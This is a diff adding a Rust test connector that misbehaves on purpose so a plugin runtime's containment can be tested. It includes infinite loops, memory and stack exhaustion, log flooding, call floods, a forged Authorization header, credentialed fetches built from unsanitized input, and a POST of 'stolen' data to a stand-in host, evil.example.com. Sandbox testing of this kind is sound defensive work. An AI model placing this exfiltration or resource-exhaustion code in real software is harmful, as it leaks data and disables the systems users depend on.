@@ -1,1 +1,129 @@
-//! placeholder
+//! A deliberately hostile connector for the runtime's containment tests.
+//! What it does is chosen by the document number:
+//!
+//! | number     | behaviour                                                  |
+//! |------------|------------------------------------------------------------|
+//! | `loop`     | spins forever                                              |
+//! | `bomb`     | allocates memory until it is stopped                       |
+//! | `stack`    | recurses until the stack overflows                         |
+//! | `panic`    | panics                                                     |
+//! | `logflood` | logs and prints far more than any budget                   |
+//! | `evil-host`| POSTs to the URL in setting `target` (not allow-listed)    |
+//! | `auth`     | sets its own `Authorization` header                        |
+//! | `calls`    | makes HTTP calls until the host stops it                   |
+//! | `fetch`    | GETs `https://allowed.test/<description of line 0>`        |
+//! | anything else | behaves: returns a receipt                              |
+
+use ledgerport_sdk::{
+    AccountList, CheckReport, Connector, ConnectorInfo, Delivery, DeliveryError, Document,
+    DocumentKind, Receipt, connection, errors, http, log,
+};
+
+struct Hostile;
+
+#[inline(never)]
+#[allow(unconditional_recursion)]
+fn recurse(n: u64, acc: &mut [u64; 64]) -> u64 {
+    acc[(n % 64) as usize] = n;
+    let mut local = [n; 64];
+    local[0] = recurse(core::hint::black_box(n + 1), &mut local);
+    local[0] + acc[1]
+}
+
+impl Connector for Hostile {
+    fn describe() -> ConnectorInfo {
+        ConnectorInfo {
+            id: "hostile".into(),
+            name: "Hostile test connector".into(),
+            version: "0.0.0".into(),
+            document_kinds: vec![DocumentKind::Invoice],
+        }
+    }
+
+    fn list_accounts() -> Result<AccountList, DeliveryError> {
+        Ok(AccountList { accounts: vec![], tax_rates: vec![] })
+    }
+
+    fn check() -> Result<CheckReport, DeliveryError> {
+        Ok(CheckReport { organisation_name: "hostile".into(), details: vec![] })
+    }
+
+    fn deliver(delivery: Delivery, doc: Document) -> Result<Receipt, DeliveryError> {
+        match doc.number.as_str() {
+            "loop" => {
+                let mut x: u64 = 0;
+                loop {
+                    x = core::hint::black_box(x.wrapping_add(1));
+                }
+            }
+            "bomb" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 1024 * 1024]);
+                    core::hint::black_box(&hoard);
+                }
+            }
+            "stack" => {
+                let mut acc = [0u64; 64];
+                let n = recurse(0, &mut acc);
+                Err(errors::transient(format!("unreachable {n}")))
+            }
+            "panic" => panic!("hostile connector panicked on purpose"),
+            "logflood" => {
+                let big = "x".repeat(10_000);
+                for i in 0..20_000 {
+                    log::info(format!("{i} {big}"));
+                }
+                for _ in 0..2_000 {
+                    println!("{big}");
+                    eprintln!("{big}");
+                }
+                Ok(receipt(&delivery))
+            }
+            "evil-host" => {
+                let target = connection::setting(&connection::info(), "target")
+                    .unwrap_or_else(|| "https://evil.example.com/".into());
+                let r = http::post(target).body(b"stolen".to_vec()).send();
+                Err(errors::transient(match r {
+                    Ok(resp) => format!("sent! status {}", resp.status),
+                    Err(e) => format!("{e:?}"),
+                }))
+            }
+            "auth" => {
+                let r = http::get("https://allowed.test/")
+                    .header("Authorization", "Bearer forged")
+                    .send();
+                Err(errors::transient(match r {
+                    Ok(resp) => format!("sent! status {}", resp.status),
+                    Err(e) => format!("{e:?}"),
+                }))
+            }
+            "calls" => {
+                for i in 0..10_000 {
+                    if let Err(e) = http::get("https://allowed.test/ping").send() {
+                        return Err(errors::transient(format!("after {i} calls: {e:?}")));
+                    }
+                }
+                Ok(receipt(&delivery))
+            }
+            "fetch" => {
+                let path = doc.lines.first().map(|l| l.description.clone()).unwrap_or_default();
+                match http::get(format!("https://allowed.test/{path}")).with_credentials().send() {
+                    Ok(resp) => Ok(Receipt {
+                        external_id: format!("status {} bytes {}", resp.status, resp.body.len()),
+                        external_url: None,
+                        notes: vec![],
+                    }),
+                    Err(e) => Err(errors::transient(format!("{e:?}"))),
+                }
+            }
+            _ => Ok(receipt(&delivery)),
+        }
+    }
+}
+
+fn receipt(d: &Delivery) -> Receipt {
+    Receipt { external_id: format!("ok-{}", d.key), external_url: None, notes: vec![] }
+}
+
+ledgerport_sdk::export_connector!(Hostile);
